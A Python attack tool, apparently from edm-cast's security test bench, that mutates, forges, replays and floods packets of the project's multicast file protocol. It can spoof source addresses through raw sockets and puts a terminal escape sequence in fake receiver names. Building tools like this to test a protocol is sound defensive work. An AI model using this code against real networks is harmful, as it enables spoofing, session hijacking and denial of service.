#!/usr/bin/env python3
"""A hostile student's PC, for the security tests and benches: real packets of edm-cast's file
protocol (version 3, proto/PROTOCOL.md), sent at a running session. Standard library only.

    attack.py mutate --group 239.1.1.1:5007 --iface 10.77.0.19 --share 0.05 [--spoof 10.77.0.1]
        copies of real DATA with a byte of the symbol, the ESI or the block number changed
    attack.py forge --group G:P --iface A --share 0.05 [--replay FILE]
        DATA forged ahead of the real symbols; END (aborted), ANNOUNCE (another size) and DIGESTS
        of the session, unsigned and with a signature by a key nobody trusts; datagrams from FILE
        (one hex datagram a line) replayed
    attack.py flood --group G:P --iface A --ids 200 [--spray 50]
        every 10 ms: hellos from fake receivers, NEEDs asking for every block, random datagrams

--spoof SRC sends with SRC as the source address (a raw socket: needs root, as a student with root
on a PC has). Runs for --secs, then prints what it sent as one JSON line.
"""

import argparse
import json
import os
import random
import select
import signal
import socket
import struct
import time

MAGIC = b"\xed\xc5"
VERSION = 3
ANNOUNCE, DATA, END, ACK, DIGESTS = 0x01, 0x02, 0x03, 0x04, 0x05
STATUS, NEED = 0x10, 0x11
# How far ahead of the symbol just seen a forged one goes: it arrives before the real one.
LEAD = 24


def header(kind, session):
    return MAGIC + bytes([VERSION, kind]) + struct.pack(">I", session)


def trailers(datagram_without_trailer):
    """The same packet unsigned, and "signed" by a key nobody trusts, now."""
    key = os.urandom(8)
    now_ms = int(time.time() * 1000)
    signed = datagram_without_trailer + b"\x01" + key + struct.pack(">Q", now_ms)
    return [datagram_without_trailer + b"\x00", signed + os.urandom(64)]


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack(f">{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


class Out:
    """Sends UDP datagrams, from our own address or, with spoof, from another one."""

    def __init__(self, iface, spoof, sport):
        self.spoof, self.sport = spoof, sport
        if spoof:
            self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            self.raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(iface))
        self.udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
        self.udp.bind((iface, 0))

    def send(self, data, addr):
        if not self.spoof:
            try:
                self.udp.sendto(data, addr)
            except OSError:
                pass
            return
        src, dst = socket.inet_aton(self.spoof), socket.inet_aton(addr[0])
        udp_len = 8 + len(data)
        pseudo = src + dst + struct.pack(">BBH", 0, socket.IPPROTO_UDP, udp_len)
        udp = struct.pack(">HHHH", self.sport, addr[1], udp_len, 0) + data
        udp = udp[:6] + struct.pack(">H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.getrandbits(16), 0, 1,
                         socket.IPPROTO_UDP, 0, src, dst)
        ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
        try:
            self.raw.sendto(ip + udp, (addr[0], 0))
        except OSError:
            pass


def listen(group, port, iface):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((group, port))
    mreq = socket.inet_aton(group) + socket.inet_aton(iface)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    s.setblocking(False)
    return s


def parse_announce(d, src):
    """Session, T, K, sent_blocks and the feedback address of an ANNOUNCE."""
    session = struct.unpack(">I", d[4:8])[0]
    t, k, _w, sent = struct.unpack(">HHHI", d[65:75])
    port, family = struct.unpack(">HB", d[75:78])
    ip = src[0] if family == 0 else socket.inet_ntoa(d[78:82])
    return session, t, k, sent, (ip, port)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["mutate", "forge", "flood"])
    ap.add_argument("--group", required=True)
    ap.add_argument("--iface", required=True, help="this host's address")
    ap.add_argument("--spoof")
    ap.add_argument("--share", type=float, default=0.05)
    ap.add_argument("--replay")
    ap.add_argument("--ids", type=int, default=200)
    ap.add_argument("--spray", type=int, default=50)
    ap.add_argument("--secs", type=float, default=60)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    random.seed(a.seed)
    group, port = a.group.rsplit(":", 1)
    port = int(port)
    sock = listen(group, port, a.iface)
    out = Out(a.iface, a.spoof, port)
    replay = []
    if a.replay:
        with open(a.replay) as f:
            replay = [bytes.fromhex(line.strip()) for line in f if line.strip()]
    sent = {"mutated": 0, "forged_data": 0, "control": 0, "replays": 0, "flood": 0}
    try:
        run(a, group, port, sock, out, replay, sent)
    except KeyboardInterrupt:
        pass
    print(json.dumps(sent), flush=True)


def run(a, group, port, sock, out, replay, sent):
    """Attacks until --secs pass (or Ctrl-C, SIGTERM), counting what it sends in `sent`."""
    session = None
    end = time.monotonic() + a.secs
    next_round = time.monotonic()
    while time.monotonic() < end:
        now = time.monotonic()
        r, _, _ = select.select([sock], [], [], max(0.0, min(0.01, next_round - now)))
        if r:
            try:
                d, src = sock.recvfrom(2048)
            except BlockingIOError:
                d = b""
            if len(d) >= 8 and d[:2] == MAGIC and d[2] == VERSION:
                if d[3] == ANNOUNCE and len(d) >= 82 and (a.spoof is None or src[0] == a.spoof
                                                          or session is None):
                    session = parse_announce(d, src)
                elif d[3] == DATA and len(d) > 16:
                    block, esi = struct.unpack(">II", d[8:16])
                    if a.mode == "mutate" and random.random() < a.share:
                        m = bytearray(d)
                        at = random.choice([random.randrange(16, len(m)), 15, 11])
                        m[at] ^= random.randrange(1, 256)
                        out.send(bytes(m), (group, port))
                        sent["mutated"] += 1
                    elif a.mode == "forge" and random.random() < a.share:
                        forged = d[:8] + struct.pack(">II", block, esi + LEAD) + os.urandom(len(d) - 16)
                        out.send(forged, (group, port))
                        sent["forged_data"] += 1
        if time.monotonic() < next_round or session is None:
            continue
        next_round = time.monotonic() + 0.01
        sid, t, k, sent_blocks, feedback = session
        if a.mode == "forge":
            for p in trailers(header(END, sid) + b"\x01"):
                out.send(p, (group, port))
                sent["control"] += 1
            body = struct.pack(">Q", 12345) + b"\xee" * 48 + b"\x03" + struct.pack(">HHHI", t, k, 8, 0)
            body += struct.pack(">HB", feedback[1], 0) + struct.pack(">H", 11) + b"payload.bin"
            for p in trailers(header(ANNOUNCE, sid) + body):
                out.send(p, (group, port))
                sent["control"] += 1
            for p in trailers(header(DIGESTS, sid) + struct.pack(">IB", 0, 8) + b"\xee" * 128):
                out.send(p, (group, port))
                sent["control"] += 1
            for d in replay:
                out.send(d, (group, port))
                sent["replays"] += 1
        if a.mode == "flood":
            blocks = min(max(sent_blocks, 1), 128)
            for _ in range(a.ids):
                rid = random.getrandbits(32)
                name = b"\x1b[2Jfake"
                hello = header(STATUS, sid) + struct.pack(">IBBIB", rid, 0, 0, 0, len(name)) + name
                need = header(NEED, sid) + struct.pack(">IH", rid, blocks)
                need += b"".join(struct.pack(">IHIB", b, k + 1, 0, 0) for b in range(blocks))
                out.send(hello, feedback)
                out.send(need, feedback)
                sent["flood"] += 2
            for _ in range(a.spray):
                junk = os.urandom(random.randrange(0, 1500))
                out.send(junk, feedback if random.random() < 0.5 else (group, port))
                sent["flood"] += 1


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, signal.default_int_handler)
    main()
